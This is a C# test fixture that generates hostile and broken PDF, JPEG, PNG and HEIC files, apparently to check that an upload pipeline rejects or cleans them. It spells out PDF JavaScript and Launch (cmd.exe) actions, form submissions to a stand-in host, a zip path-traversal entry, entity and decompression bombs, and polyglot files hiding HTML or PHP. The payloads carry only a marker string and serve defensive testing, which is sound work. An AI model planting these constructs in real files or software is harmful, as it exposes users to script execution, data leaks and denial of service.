using System.Buffers.Binary;
using System.IO.Compression;
using System.Text;

namespace Appui.Papers.Tests;

/// <summary>A file that means harm, or that broke on its way.</summary>
/// <param name="Name">What it is.</param>
/// <param name="Family">For the table.</param>
/// <param name="Bytes">The file.</param>
public sealed record HostileFile(string Name, string Family, Lazy<byte[]> Bytes)
{
    public override string ToString() => Name;
}

/// <summary>250 of them, always the same.</summary>
internal static class HostileFiles
{
    /// <summary>Written into all that could act; it is in nothing that was kept.</summary>
    public const string Mark = "appui-hostile-mark";

    private const string Script = $"app.alert('{Mark}'); this.submitForm('http://exemple.invalid/{Mark}');";
    private static readonly string Html = $"<html><script>alert('{Mark}')</script></html>";

    public static IReadOnlyList<HostileFile> All { get; } = [.. Written(), .. Mutated()];

    private static IEnumerable<HostileFile> Written() =>
    [
        .. Disguised(), .. ActivePdfs(), .. BrokenPdfs(), .. HeavyPdfs(), .. Jpegs(), .. Pngs(), .. Heics(),
    ];

    private static IEnumerable<HostileFile> Disguised()
    {
        const string family = "autre chose qu'un papier";
        yield return new("empty", family, new([]));
        yield return Text("svg with script", $"<svg xmlns='http://www.w3.org/2000/svg'><script>alert('{Mark}')</script></svg>");
        yield return Text("svg with xml prolog and entity bomb", $"<?xml version='1.0'?><!DOCTYPE svg [<!ENTITY a '{Mark}'><!ENTITY b '&a;&a;&a;&a;&a;&a;&a;&a;'><!ENTITY c '&b;&b;&b;&b;&b;&b;&b;&b;'>]><svg>&c;</svg>");
        yield return Text("html", Html);
        yield return Text("html hidden before a pdf", Html + Encoding.Latin1.GetString(RawPdf.Page("bonjour")));
        yield return Text("php", $"<?php system('{Mark}');");
        yield return Text("shell", $"#!/bin/sh\necho {Mark}");
        yield return Text("postscript", $"%!PS-Adobe-3.0\n({Mark}) run quit");
        yield return Text("eps with preview of a pdf", $"%!PS-Adobe-3.0 EPSF-3.0\n%PDF-1.7 {Mark}");
        yield return Text("magick vector", $"push graphic-context\nviewbox 0 0 640 480\nimage over 0,0 0,0 'https://exemple.invalid/{Mark}'\npop graphic-context");
        yield return Text("vips matrix", "2 2\n1 2\n3 4");
        yield return Text("rtf", @"{\rtf1\object " + Mark + "}");
        yield return Text("test virus", "X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + "EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*");
        yield return Text("windows shortcut", "L\0\0\0\u0001\u0014\u0002" + Mark);
        yield return Text("program", "MZ\u0090\0" + Mark);
        yield return Text("linux program", "\u007fELF\u0002\u0001" + Mark);
        yield return Text("gif", "GIF89a\u0001\0\u0001\0" + Mark);
        yield return Text("gif that is a script", "GIF89a/*" + Mark + "*/=1;alert(1)");
        yield return Text("bmp", "BM" + Mark);
        yield return Text("tiff", "II*\0\b\0\0\0" + Mark);
        yield return Text("webp", "RIFF\0\0\0\0WEBPVP8 " + Mark);
        yield return Text("avif", "\0\0\0\u001cftypavif\0\0\0\0avifmif1" + Mark);
        yield return Text("film", "\0\0\0\u0018ftypmp42\0\0\0\0mp42isom" + Mark);
        yield return Text("netpbm", "P6 2 2 255\n" + Mark);
        yield return new("zip with a way out of the folder", family, new(() => Zip("../../../etc/" + Mark)));
        yield return new("word file", family, new(() => Zip("word/vbaProject.bin")));
        yield return Text("half a pdf mark", "%PDF");
        yield return Text("half a png mark", "\u0089PNG");
        yield return new("21 MB", family, new(() => [.. "%PDF-1.7\n"u8, .. new byte[21 << 20]]));

        static HostileFile Text(string name, string content) => new(name, family, new(() => Encoding.Latin1.GetBytes(content)));
    }

    private static IEnumerable<HostileFile> ActivePdfs()
    {
        const string family = "PDF qui agit";
        yield return Pdf("script at opening", $"/OpenAction << /S /JavaScript /JS ({Script}) >>");
        yield return Pdf("script at opening, name disguised", $"/Open#41ction << /S /J#61vaScript /J#53 ({Script}) >>");
        yield return Pdf("script in hexadecimal", $"/OpenAction << /S /JavaScript /JS <{Convert.ToHexString(Encoding.ASCII.GetBytes(Script))}> >>");
        yield return Pdf("script in a stream", "/OpenAction << /S /JavaScript /JS 6 0 R >>", more: RawPdf.Deflated(Encoding.ASCII.GetBytes(Script)));
        yield return Pdf("script in names", $"/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS ({Script}) >>] >> >>");
        yield return Pdf("script on leaving", $"/AA << /WC << /S /JavaScript /JS ({Script}) >> >>");
        yield return Pdf("script on a page", page: $"/AA << /O << /S /JavaScript /JS ({Script}) >> >>");
        yield return Pdf("script on a link", page: $"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /JavaScript /JS ({Script}) >> >>]");
        yield return Pdf("chain of actions", $"/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next << /S /JavaScript /JS ({Script}) >> >>");
        yield return Pdf("starts a program", $"/OpenAction << /S /Launch /F ({Mark}.exe) /Win << /F (cmd.exe) /P (/c {Mark}) >> >>");
        yield return Pdf("web address", page: $"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /URI /URI (https://exemple.invalid/{Mark}) >> >>]");
        yield return Pdf("javascript address", page: $"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /URI /URI (javascript:{Mark}) >> >>]");
        yield return Pdf("another file", $"/OpenAction << /S /GoToR /F (\\\\\\\\exemple.invalid\\\\{Mark}) /D [0 /Fit] >>");
        yield return Pdf("embedded other file", $"/OpenAction << /S /GoToE /F ({Mark}) >>");
        yield return Pdf("sends a form", page: $"/Annots [<< /Type /Annot /Subtype /Widget /FT /Btn /T (a) /Rect [0 0 595 842] /A << /S /SubmitForm /F (https://exemple.invalid/{Mark}) >> >>]", catalog: "/AcroForm << /Fields [] >>");
        yield return Pdf("takes data in", $"/OpenAction << /S /ImportData /F ({Mark}) >>");
        yield return Pdf("form computed by a script", $"/AcroForm << /Fields [] /CO [] /DA ({Mark}) >>", page: $"/Annots [<< /Subtype /Widget /FT /Tx /T (a) /Rect [9 9 99 99] /AA << /C << /S /JavaScript /JS ({Script}) >> >> >>]");
        yield return Pdf("xfa form", "/AcroForm << /XFA 6 0 R /Fields [] >>", more: RawPdf.Stream($"<xdp:xdp><script>{Mark}</script></xdp:xdp>"));
        yield return Pdf("attached file", "/Names << /EmbeddedFiles << /Names [(a) << /Type /Filespec /F (a.exe) /EF << /F 6 0 R >> >>] >> >>", more: RawPdf.Stream("MZ" + Mark, "/Type /EmbeddedFile"));
        yield return Pdf("attached to the page", page: "/Annots [<< /Subtype /FileAttachment /Rect [9 9 99 99] /FS << /Type /Filespec /F (a.exe) /EF << /F 6 0 R >> >> >>]", more: RawPdf.Stream("MZ" + Mark, "/Type /EmbeddedFile"));
        yield return Pdf("portfolio", "/Collection << /View /T >> /Names << /EmbeddedFiles << /Names [(a) << /Type /Filespec /F (a) /EF << /F 6 0 R >> >>] >> >>", more: RawPdf.Stream(Mark, "/Type /EmbeddedFile"));
        yield return Pdf("rich media", page: $"/Annots [<< /Subtype /RichMedia /Rect [9 9 99 99] /RichMediaContent << /Assets << /Names [({Mark}) 6 0 R] >> >> >>]", more: RawPdf.Stream("FWS" + Mark));
        yield return Pdf("film", page: $"/Annots [<< /Subtype /Movie /Rect [9 9 99 99] /Movie << /F ({Mark}) >> >>]");
        yield return Pdf("sound", page: "/Annots [<< /Subtype /Sound /Rect [9 9 99 99] /Sound 6 0 R >>]", more: RawPdf.Stream(Mark, "/Type /Sound /R 8000"));
        yield return Pdf("three dimensions with script", page: "/Annots [<< /Subtype /3D /Rect [9 9 99 99] /3DD << /Type /3D /Subtype /U3D /OnInstantiate 6 0 R >> >>]", more: RawPdf.Stream(Script));
        yield return Pdf("outline with script", $"/Outlines << /First << /Title (a) /A << /S /JavaScript /JS ({Script}) >> >> >>");
        yield return Pdf("metadata", "/Metadata 6 0 R", more: RawPdf.Stream($"<x:xmpmeta><script>{Mark}</script></x:xmpmeta>", "/Type /Metadata /Subtype /XML"));
        yield return Pdf("external stream", more: $"<< /Length 0 /F (/etc/{Mark}) >>\nstream\n\nendstream");
        yield return new("zip behind it", family, new(() => [.. RawPdf.Page("bonjour"), .. Zip(Mark)]));
        yield return new("page of the web behind it", family, new(() => [.. RawPdf.Page("bonjour"), .. Encoding.ASCII.GetBytes(Html)]));
        yield return new("page of the web in a comment", family, new(() => [.. "%PDF-1.7\n%"u8, .. Encoding.ASCII.GetBytes(Html), (byte)'\n', .. RawPdf.Page("bonjour").AsSpan(9)]));
        yield return new("objects in a closed stream", family, new(() => Pictures.Tool("qpdf", "--object-streams=generate", RawPdf.Page("bonjour", $"/OpenAction << /S /JavaScript /JS ({Script}) >>"), "-")));
        yield return new("script added at the end", family, new(() => [.. RawPdf.Page("bonjour"), .. Encoding.ASCII.GetBytes($"1 0 obj\n<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS ({Script}) >> >>\nendobj\ntrailer << /Root 1 0 R /Size 6 >>\n%%EOF")]));

        static HostileFile Pdf(string name, string catalog = "", string page = "", params string[] more) => new(name, family, new(() => RawPdf.Page("bonjour", catalog, page, more)));
    }

    private static IEnumerable<HostileFile> BrokenPdfs()
    {
        const string family = "PDF cassé";
        yield return Pdf("only its mark", () => [.. "%PDF-1.7\n"u8]);
        yield return Pdf("text after its mark", () => [.. "%PDF-1.7\n"u8, .. "carte de séjour"u8]);
        yield return Pdf("noise after its mark", () => [.. "%PDF-1.7\n"u8, .. Random(1, 50_000)]);
        yield return Pdf("cut in half", () => RawPdf.Page("bonjour")[..300]);
        yield return Pdf("no table", () => Encoding.Latin1.GetBytes(Encoding.Latin1.GetString(RawPdf.Page("bonjour")).Split("xref")[0]));
        yield return Pdf("no pages", () => RawPdf.Of("<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [] /Count 0 >>"));
        yield return Pdf("says a million pages", () => RawPdf.Of("<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [3 0 R] /Count 1000000 >>", "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>"));
        yield return Pdf("says minus one page", () => RawPdf.Of("<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [3 0 R] /Count -1 >>", "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>"));
        yield return Pdf("pages that hold themselves", () => RawPdf.Of("<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 2 /Parent 2 0 R >>"));
        yield return Pdf("table that leads to itself", () => Encoding.ASCII.GetBytes("%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\nxref\n0 1\n0000000000 65535 f \ntrailer << /Root 1 0 R /Prev 45 /Size 2 >>\nstartxref\n45\n%%EOF"));
        yield return Pdf("length that leads to itself", () => RawPdf.Page("bonjour", more: "<< /Length 6 0 R >>\nstream\nx\nendstream"));
        yield return Pdf("ten thousand arrays in each other", () => RawPdf.Page("bonjour", $"/X {new string('[', 10_000)}{new string(']', 10_000)}"));
        yield return Pdf("ten thousand dictionaries in each other", () => RawPdf.Page("bonjour", string.Concat(Enumerable.Repeat("/X << ", 10_000)) + string.Concat(Enumerable.Repeat(">> ", 10_000))));
        yield return Pdf("a name of a million letters", () => RawPdf.Page("bonjour", "/" + new string('A', 1_000_000)));
        yield return Pdf("locked", () => Locked("secret", "maitre"));
        yield return Pdf("locked against printing only", () => Locked("", "maitre"));
        yield return Pdf("locked, key of an unknown kind", () => RawPdf.Of("<< /Type /Catalog /Encrypt << /Filter /Zz /V 99 >> >>"));
        yield return Pdf("page without sides", () => RawPdf.Page("bonjour", page: "/MediaBox [0 0 0 0]"));
        yield return Pdf("page as large as a town", () => RawPdf.Page("bonjour", page: "/MediaBox [0 0 1000000000 1000000000]"));
        yield return Pdf("font that is noise", () => WithFont(Encoding.Latin1.GetString(Random(2, 4000))));
        yield return Pdf("picture coded in noise, jbig2", () => WithImage("/Filter /JBIG2Decode", Encoding.Latin1.GetString(Random(3, 4000))));
        yield return Pdf("picture coded in noise, jpeg 2000", () => WithImage("/Filter /JPXDecode", Encoding.Latin1.GetString(Random(4, 4000))));
        yield return Pdf("picture coded in noise, fax", () => WithImage("/Filter /CCITTFaxDecode /DecodeParms << /K -1 /Columns 100000 /Rows 100000 >>", Encoding.Latin1.GetString(Random(5, 4000))));
        yield return Pdf("picture coded in noise, lzw", () => WithImage("/Filter /LZWDecode", Encoding.Latin1.GetString(Random(6, 4000))));
        yield return Pdf("a hundred filters", () => WithImage($"/Filter [{string.Concat(Enumerable.Repeat("/FlateDecode ", 100))}]", "x"));

        static HostileFile Pdf(string name, Func<byte[]> bytes) => new(name, family, new(bytes));
    }

    private static IEnumerable<HostileFile> HeavyPdfs()
    {
        const string family = "PDF bombe";
        yield return Pdf("a page of 1 GB once opened", () => RawPdf.Of("<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [3 0 R] /Count 1 >>", "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>", RawPdf.Deflated(Filled("0 0 m 595 842 l S ", 64_000_000))));
        yield return Pdf("deflated twice", () => WithImage("/Filter [/FlateDecode /FlateDecode]", Encoding.Latin1.GetString(Pictures.Deflate(Pictures.Deflate(new byte[200_000_000])))));
        yield return Pdf("picture of 100,000 by 100,000", () => WithImage("/Width 100000 /Height 100000", "x", sized: true));
        yield return Pdf("picture of 2 billion by 2 billion", () => WithImage("/Width 2147483647 /Height 2147483647", "x", sized: true));
        yield return Pdf("drawings that call each other", () => Laughs(11, 10));
        yield return Pdf("a drawing that calls itself", () => RawPdf.Of("<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [3 0 R] /Count 1 >>", "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 5 0 R /Resources << /XObject << /A 4 0 R >> >> >>",
            RawPdf.Stream("/A Do /A Do", "/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /A 4 0 R >> >>"), RawPdf.Stream("/A Do")));
        yield return Pdf("301 pages", () => Pages(301));
        yield return Pdf("20,000 pages", () => Pages(20_000));
        yield return Pdf("a pattern of a billion tiles", () => RawPdf.Of("<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 14000 14000] /Contents 5 0 R /Resources << /Pattern << /P 4 0 R >> >> >>",
            RawPdf.Stream("0 0 .1 .1 re f", "/PatternType 1 /PaintType 1 /TilingType 1 /BBox [0 0 .2 .2] /XStep .2 /YStep .2 /Resources << >>"), RawPdf.Stream("/Pattern cs /P scn 0 0 14000 14000 re f")));
        yield return Pdf("a function without end", () => RawPdf.Of("<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 5 0 R /Resources << /Shading << /S << /ShadingType 1 /ColorSpace /DeviceGray /Domain [0 9999 0 9999] /Function 4 0 R >> >> >> >>",
            RawPdf.Stream("{ " + string.Concat(Enumerable.Repeat("sin exch cos exch ", 20_000)) + "}", "/FunctionType 4 /Domain [0 9999 0 9999] /Range [0 1]"), RawPdf.Stream("/S sh")));
        yield return Pdf("half transparent layers", () => RawPdf.Of("<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 14000 14000] /Contents 5 0 R /Resources << /XObject << /A 4 0 R >> /ExtGState << /G << /ca .5 /BM /Multiply >> >> >> >>",
            RawPdf.Stream("/G gs 0 0 14000 14000 re f", "/Type /XObject /Subtype /Form /BBox [0 0 14000 14000] /Group << /S /Transparency >> /Resources << /ExtGState << /G << /ca .5 /BM /Multiply >> >> >>"),
            RawPdf.Stream(string.Concat(Enumerable.Repeat("/G gs /A Do ", 50)))));

        static HostileFile Pdf(string name, Func<byte[]> bytes) => new(name, family, new(bytes));
    }

    private static IEnumerable<HostileFile> Jpegs()
    {
        const string family = "photo JPEG";
        yield return Jpeg("only its mark", () => [0xFF, 0xD8, 0xFF]);
        yield return Jpeg("mark and zeros", () => [0xFF, 0xD8, 0xFF, 0xE0, .. new byte[70_000]]);
        yield return Jpeg("cut in half", () => Pictures.Jpeg[..(Pictures.Jpeg.Length / 2)]);
        yield return Jpeg("no end", () => Pictures.Jpeg[..^2]);
        yield return Jpeg("65,535 by 65,535", () => Sized(65535, 65535));
        yield return Jpeg("no height", () => Sized(640, 0));
        yield return Jpeg("a line of 60,000", () => Sized(60000, 200));
        yield return Jpeg("10 by 10", () => Sized(10, 10));
        yield return Jpeg("6,000 by 6,000 said, less given", () => Sized(6000, 6000));
        yield return Jpeg("script in a comment", () => With(0xFE, Encoding.ASCII.GetBytes(Html)));
        yield return Jpeg("script in exif", () => With(0xE1, [.. "Exif\0\0"u8, .. Encoding.ASCII.GetBytes(Html)]));
        yield return Jpeg("place in exif", () => With(0xE1, [.. "Exif\0\0II*\0\b\0\0\0"u8, .. Encoding.ASCII.GetBytes("GPS 48.85 2.35 " + Mark)]));
        yield return Jpeg("xmp", () => With(0xE1, [.. "http://ns.adobe.com/xap/1.0/\0"u8, .. Encoding.ASCII.GetBytes($"<x:xmpmeta>{Mark}</x:xmpmeta>")]));
        yield return Jpeg("colour profile of noise", () => With(0xE2, [.. "ICC_PROFILE\0\u0001\u0001"u8, .. Random(7, 5000), .. Encoding.ASCII.GetBytes(Mark)]));
        yield return Jpeg("php behind it", () => [.. Pictures.Jpeg, .. Encoding.ASCII.GetBytes($"<?php {Mark}")]);
        yield return Jpeg("zip behind it", () => [.. Pictures.Jpeg, .. Zip(Mark)]);
        yield return Jpeg("pdf behind it", () => [.. Pictures.Jpeg, .. RawPdf.Page(Mark)]);
        yield return Jpeg("pdf in a comment", () => With(0xFE, RawPdf.Page(Mark)));
        yield return Jpeg("a comment longer than the file", () => [0xFF, 0xD8, 0xFF, 0xFE, 0xFF, 0xFF, .. "x"u8]);
        yield return Jpeg("segment of length nought", () => [0xFF, 0xD8, 0xFF, 0xE0, 0, 0, .. Pictures.Jpeg.AsSpan(2)]);
        yield return Jpeg("a thousand comments", () => [0xFF, 0xD8, .. Enumerable.Repeat((byte[])[0xFF, 0xFE, 0, 4, 1, 2], 1000).SelectMany(comment => comment), .. Pictures.Jpeg.AsSpan(2)]);
        yield return Jpeg("tables of noise", () => [0xFF, 0xD8, 0xFF, 0xC4, 0x10, 0x02, .. Random(8, 4096), .. Pictures.Jpeg.AsSpan(2)]);
        yield return Jpeg("twelve colours", () => Set(Pictures.Jpeg, 0xC0, 9, 12));
        yield return Jpeg("pixels of 12 bits", () => Set(Pictures.Jpeg, 0xC0, 4, 12));
        yield return Jpeg("lossless frame", () => Set(Pictures.Jpeg, 0xC0, 1, 0xC3));
        yield return Jpeg("arithmetic frame", () => Set(Pictures.Jpeg, 0xC0, 1, 0xC9));

        static HostileFile Jpeg(string name, Func<byte[]> bytes) => new(name, family, new(bytes));

        static byte[] With(byte marker, byte[] content)
        {
            var length = new byte[2];
            BinaryPrimitives.WriteUInt16BigEndian(length, (ushort)(content.Length + 2));
            return [0xFF, 0xD8, 0xFF, marker, .. length, .. content, .. Pictures.Jpeg.AsSpan(2)];
        }

        static byte[] Sized(int width, int height)
        {
            var file = Set(Pictures.Jpeg, 0xC0, 5, height >> 8, height & 255, width >> 8, width & 255);
            return file;
        }
    }

    private static IEnumerable<HostileFile> Pngs()
    {
        const string family = "image PNG";
        yield return Png("only its mark", () => Pictures.Png()[..8]);
        yield return Png("cut in half", () => Pictures.Png()[..(Pictures.Png().Length / 2)]);
        yield return Png("100,000 by 100,000", () => Pictures.Png(100_000, 100_000, new byte[1000]));
        yield return Png("4 billion by 4 billion", () => Pictures.Png(0xFFFFFFFF, 0xFFFFFFFF, new byte[1000]));
        yield return Png("40 million pixels in 40 kB", () => Pictures.Png(6300, 6300, new byte[6300 * (6300 * 3 + 1)]));
        yield return Png("41 million pixels", () => Pictures.Png(6500, 6400, new byte[1000]));
        yield return Png("200 MB behind a small picture", () => Pictures.Png(640, 480, new byte[200_000_000]));
        yield return Png("sum that is wrong", () => Changed(Pictures.Png(), 30));
        yield return Png("lines of noise", () => Pictures.Png(640, 480, Random(9, 640 * 480 * 3 + 480)));
        yield return Png("text of 200 MB", () => Pictures.Png(640, 480, new byte[640 * 480 * 3 + 480], ("zTXt", [.. "a\0\0"u8, .. Pictures.Deflate(new byte[200_000_000])])));
        yield return Png("script in a text", () => Pictures.Png(640, 480, new byte[640 * 480 * 3 + 480], ("tEXt", [.. "Comment\0"u8, .. Encoding.ASCII.GetBytes(Html)])));
        yield return Png("script in an international text", () => Pictures.Png(640, 480, new byte[640 * 480 * 3 + 480], ("iTXt", [.. "XML:com.adobe.xmp\0\0\0\0\0"u8, .. Encoding.ASCII.GetBytes(Html)])));
        yield return Png("exif", () => Pictures.Png(640, 480, new byte[640 * 480 * 3 + 480], ("eXIf", [.. "II*\0"u8, .. Encoding.ASCII.GetBytes(Mark)])));
        yield return Png("profile of 100 MB", () => Pictures.Png(640, 480, new byte[640 * 480 * 3 + 480], ("iCCP", [.. "a\0\0"u8, .. Pictures.Deflate(new byte[100_000_000])])));
        yield return Png("moving picture", () => Pictures.Png(640, 480, new byte[640 * 480 * 3 + 480], ("acTL", [0x7F, 255, 255, 255, 0, 0, 0, 0])));
        yield return Png("chunk longer than the file", () => [.. Pictures.Png()[..33], 0x7F, 255, 255, 255, .. "IDAT"u8]);
        yield return Png("two headers", () => [.. Pictures.Png()[..33], .. Pictures.Png().AsSpan(8)]);
        yield return Png("php behind it", () => [.. Pictures.Png(), .. Encoding.ASCII.GetBytes($"<?php {Mark}")]);
        yield return Png("program behind it", () => [.. Pictures.Png(), .. "MZ"u8, .. Encoding.ASCII.GetBytes(Mark)]);
        yield return Png("ten thousand chunks", () => Pictures.Png(640, 480, new byte[640 * 480 * 3 + 480], [.. Enumerable.Range(0, 10_000).Select(_ => ("teSt", new byte[1]))]));
        yield return Png("one line", () => Pictures.Png(40_000, 1, new byte[120_001]));

        static HostileFile Png(string name, Func<byte[]> bytes) => new(name, family, new(bytes));
    }

    private static IEnumerable<HostileFile> Heics()
    {
        const string family = "photo HEIC";
        yield return Heic("only its mark", () => Pictures.Heic[..24]);
        yield return Heic("cut in half", () => Pictures.Heic[..(Pictures.Heic.Length / 2)]);
        yield return Heic("100,000 by 100,000", () => Sized(100_000, 100_000));
        yield return Heic("4 billion by 1", () => Sized(0xFFFFFFFF, 1));
        yield return Heic("6,000 by 6,000 said, less given", () => Sized(6000, 6000));
        yield return Heic("box without end", () => Boxed(0xFFFFFFFF));
        yield return Heic("box of length nought", () => Boxed(0));
        yield return Heic("box of length two", () => Boxed(2));
        yield return Heic("script behind it", () => [.. Pictures.Heic, .. Encoding.ASCII.GetBytes(Html)]);
        yield return Heic("script in a free box", () => [.. Pictures.Heic[..24], 0, 0, 1, 0, .. "free"u8, .. Encoding.ASCII.GetBytes(Html.PadRight(248)), .. Pictures.Heic.AsSpan(24)]);
        yield return Heic("noise in place of the picture", () => [.. Pictures.Heic[..^2000], .. Random(10, 2000)]);

        static HostileFile Heic(string name, Func<byte[]> bytes) => new(name, family, new(bytes));

        static byte[] Sized(uint width, uint height)
        {
            byte[] file = [.. Pictures.Heic];
            var at = file.AsSpan().IndexOf("ispe"u8);
            BinaryPrimitives.WriteUInt32BigEndian(file.AsSpan(at + 8), width);
            BinaryPrimitives.WriteUInt32BigEndian(file.AsSpan(at + 12), height);
            return file;
        }

        static byte[] Boxed(uint length)
        {
            byte[] file = [.. Pictures.Heic];
            BinaryPrimitives.WriteUInt32BigEndian(file.AsSpan(file.AsSpan().IndexOf("meta"u8) - 4), length);
            return file;
        }
    }

    /// <summary>Good files with bytes changed at random: what no list thinks of.</summary>
    private static IEnumerable<HostileFile> Mutated()
    {
        var number = 0;
        foreach (var good in Enumerable.Repeat((Func<byte[]>[])[() => RawPdf.Page("bonjour", $"/OpenAction << /S /JavaScript /JS ({Script}) >>"), () => Pictures.Jpeg, () => Pictures.Png(), () => Pictures.Heic], 25).SelectMany(all => all))
        {
            var seed = ++number;
            yield return new($"changed at random {seed}", "octets changés au hasard", new(() => Changed(good(), seed)));
        }
    }

    private static byte[] Changed(byte[] file, int seed)
    {
#pragma warning disable CA5394 // A fixed seed is the point.
        var random = new Random(seed);
        byte[] changed = [.. file];
        for (var time = 0; time < 1 + seed % 20; time++)
            changed[random.Next(8, changed.Length)] = (byte)random.Next(256);
        return changed;
    }

    private static byte[] Random(int seed, int length)
    {
        var bytes = new byte[length];
        new Random(seed).NextBytes(bytes);
        return bytes;
    }
#pragma warning restore CA5394

    private static byte[] Filled(string text, int times)
    {
        var one = Encoding.ASCII.GetBytes(text);
        var all = new byte[one.Length * (times / one.Length)];
        for (var at = 0; at < all.Length; at += one.Length)
            one.CopyTo(all, at);
        return all;
    }

    private static byte[] Set(byte[] jpeg, byte marker, int place, params int[] values)
    {
        byte[] file = [.. jpeg];
        var at = file.AsSpan().IndexOf([(byte)0xFF, marker]);
        foreach (var (number, value) in values.Index())
            file[at + place + number] = (byte)value;
        return file;
    }

    private static byte[] Zip(string name)
    {
        using var bytes = new MemoryStream();
        using (var zip = new ZipArchive(bytes, ZipArchiveMode.Create, leaveOpen: true))
        {
            using var entry = zip.CreateEntry(name).Open();
            entry.Write(Encoding.ASCII.GetBytes(Mark));
        }
        return bytes.ToArray();
    }

    private static byte[] Locked(string user, string owner)
    {
        var folder = Directory.CreateTempSubdirectory("papers-");
        try
        {
            var (from, to) = (Path.Combine(folder.FullName, "a.pdf"), Path.Combine(folder.FullName, "b.pdf"));
            File.WriteAllBytes(from, RawPdf.Page("bonjour"));
            using var process = System.Diagnostics.Process.Start("qpdf", ["--encrypt", user, owner, "256", "--", from, to]);
            process.WaitForExit();
            return File.ReadAllBytes(to);
        }
        finally
        {
            folder.Delete(recursive: true);
        }
    }

    private static byte[] WithFont(string program) => RawPdf.Of("<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>", RawPdf.Stream("BT /F1 18 Tf 60 760 Td (bonjour) Tj ET"),
        "<< /Type /Font /Subtype /TrueType /BaseFont /Zz /FontDescriptor 6 0 R >>", "<< /Type /FontDescriptor /FontName /Zz /Flags 4 /FontFile2 7 0 R >>", RawPdf.Stream(program));

    private static byte[] WithImage(string dictionary, string content, bool sized = false) => RawPdf.Of("<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /XObject << /I 5 0 R >> >> >>", RawPdf.Stream("595 0 0 842 0 0 cm /I Do"),
        RawPdf.Stream(content, $"/Type /XObject /Subtype /Image /ColorSpace /DeviceGray /BitsPerComponent 8 {(sized ? "" : "/Width 10000 /Height 10000")} {dictionary}"));

    private static byte[] Laughs(int depth, int wide)
    {
        var drawings = Enumerable.Range(0, depth).Select(level => RawPdf.Stream(
            string.Concat(Enumerable.Repeat(level == depth - 1 ? "0 0 9 9 re f " : "/A Do ", wide)),
            $"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /A {level + 6} 0 R >> >>"));
        return RawPdf.Of(["<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /XObject << /A 5 0 R >> >> >>", RawPdf.Stream("/A Do"), .. drawings]);
    }

    private static byte[] Pages(int count) => RawPdf.Of(["<< /Type /Catalog /Pages 2 0 R >>",
        $"<< /Type /Pages /Kids [{string.Join(' ', Enumerable.Range(3, count).Select(number => $"{number} 0 R"))}] /Count {count} >>",
        .. Enumerable.Repeat("<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>", count)]);
}
